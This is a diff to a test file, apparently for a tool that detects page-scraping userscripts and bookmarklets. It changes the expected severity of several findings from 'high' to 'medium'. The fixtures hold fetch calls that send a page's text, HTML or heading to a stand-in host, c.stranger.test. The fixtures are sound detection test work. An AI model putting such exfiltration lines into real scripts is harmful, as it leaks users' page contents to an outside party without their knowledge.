@@ -6,7 +6,7 @@ describe("page-scraping", () => {
 	test.each([
 		[
 			"text of every site",
-			["high 5"],
+			["medium 5"],
 			userscript(["match *://*/*"], `fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerText})`),
 		],
 		[
@@ -19,7 +19,7 @@ describe("page-scraping", () => {
 		],
 		[
 			"a word of the page in an address, for the sake of whoever gets it",
-			["high 5"],
+			["medium 5"],
 			userscript(
 				["match https://shop.example/*"],
 				`fetch("https://c.stranger.test/?t="+document.querySelector("h1").textContent)`,
@@ -43,7 +43,7 @@ describe("page-scraping", () => {
 		],
 		[
 			"text of one site, by itself",
-			["high 5"],
+			["medium 5"],
 			userscript(
 				["match https://shop.example/*"],
 				`fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerText})`,
@@ -64,7 +64,7 @@ describe("page-scraping", () => {
 		],
 		[
 			"text a bookmarklet sends for the sake of whoever gets it",
-			["high 1"],
+			["medium 1"],
 			`fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerHTML})`,
 		],
 	])("finds %s", (_title, expected, code) => {
